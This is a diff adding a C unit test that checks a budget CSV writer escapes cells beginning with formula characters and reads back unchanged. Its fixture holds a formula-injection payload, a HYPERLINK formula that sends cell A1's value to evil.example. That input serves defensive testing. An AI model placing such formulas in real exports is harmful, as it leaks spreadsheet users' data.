@@ -443,6 +443,41 @@ test_write_reads_back(void **state)
 	json_decref(lines);
 }
 
+/* Texts that a spreadsheet would evaluate are written as text; the amounts stay numbers. */
+static void
+test_write_neutralises_formulas(void **state)
+{
+	(void)state;
+	json_t *lines = json_pack(
+		"[{s:s, s:s, s:s, s:s, s:I, s:I}, {s:s, s:s, s:s, s:s, s:I, s:I},"
+		" {s:s, s:s, s:s, s:s, s:I, s:I}]",
+		"section", "fonctionnement", "chapter", "-6", "article", "+611", "label",
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"Voir\")", "planned", (json_int_t)0,
+		"executed", (json_int_t)2500, "section", "equipement", "chapter", "90", "article",
+		"@901", "label", "'=déjà cité", "planned", (json_int_t)1, "executed", (json_int_t)0,
+		"section", "equipement", "chapter", "91", "article", "911", "label",
+		"Réseau - tranche 2", "planned", (json_int_t)10, "executed", (json_int_t)10);
+	struct strbuf sb = STRBUF_INIT;
+	budget_csv_write(&sb, lines);
+	assert_string_equal(
+		sb.buf, "section,chapter,article,label,planned,executed\r\n"
+			"fonctionnement,\"'-6\",\"'+611\",\"'=HYPERLINK(\"\"http://evil.example/"
+			"?\"\"&A1,\"\"Voir\"\")\",0,2500\r\n"
+			"equipement,90,\"'@901\",\"''=déjà cité\",1,0\r\n"
+			"equipement,91,911,Réseau - tranche 2,10,10\r\n");
+	/* no cell of the file starts with a formula character */
+	for (const char *p = sb.buf; *p; p++)
+		if (p == sb.buf || p[-1] == ',' || p[-1] == '\n')
+			assert_null(strchr("=+-@", *p == '"' ? p[1] : *p));
+	/* and the import reads the download back as the lines it was made from */
+	struct parsed p = parse_len(sb.buf, sb.len);
+	assert_non_null(p.lines);
+	assert_true(json_equal(p.lines, lines));
+	parsed_release(&p);
+	strbuf_release(&sb);
+	json_decref(lines);
+}
+
 int
 main(void)
 {
@@ -458,6 +493,7 @@ main(void)
 		cmocka_unit_test(test_file_errors),
 		cmocka_unit_test(test_peer_lines),
 		cmocka_unit_test(test_write_reads_back),
+		cmocka_unit_test(test_write_neutralises_formulas),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
